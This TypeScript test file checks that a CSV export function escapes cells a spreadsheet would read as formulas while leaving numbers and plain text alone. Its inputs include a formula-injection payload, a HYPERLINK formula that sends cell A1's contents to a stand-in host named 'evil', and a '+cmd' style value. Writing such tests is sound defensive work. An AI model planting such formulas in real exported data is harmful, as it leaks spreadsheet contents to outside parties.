import fc from 'fast-check';
import Papa from 'papaparse';
import { expect, it } from 'vitest';
import { csvText } from '../../../src/data-files/writing/data-table.ts';
import { delimitedText } from '../../../src/data-files/writing/delimited-text.ts';

it.each(['=HYPERLINK("http://evil/?"&A1,"x")', '+1+cmd', '-2+3', '@SUM(1)', '\tx', '\rx', '-', '-inf', '+e5'])(
  'a text that a spreadsheet would take for a formula is a text: %j',
  (text) => {
    expect(Papa.parse<string[]>(csvText([[text]])).data[0]).toEqual([`'${text}`]);
  },
);

it.each(['-1', '+2.5', '-.5', '1e-7', '-3.2E+10', -4, 1e300, '', 'S001', 'a=b', 'placebo-naltrexone'])('%j stays as it is', (cell) => {
  expect(Papa.parse<string[]>(csvText([[cell, 'x']])).data[0]).toEqual([String(cell), 'x']);
});

it('rows are spelled as Papa Parse spells them, but for formulas', () => {
  const cell = fc.oneof(
    fc.string(),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.constantFrom('a,b', '"', ' x', 'x ', 'a\nb', 'a\tb', ''),
  );
  fc.assert(
    fc.property(
      fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }),
      fc.constantFrom(',', '\t'),
      (rows, delimiter) => {
        const formula = /^(?![+-]?(?:\d+\.?\d*|\.\d+)(?:e[+-]?\d+)?$)[=+\-@\t\r]/i;
        const whole = Papa.unparse(rows, { delimiter, newline: '\r\n', escapeFormulae: formula });
        expect(delimitedText(rows, delimiter as ',')).toBe(`${whole}\r\n`);
      },
    ),
  );
});
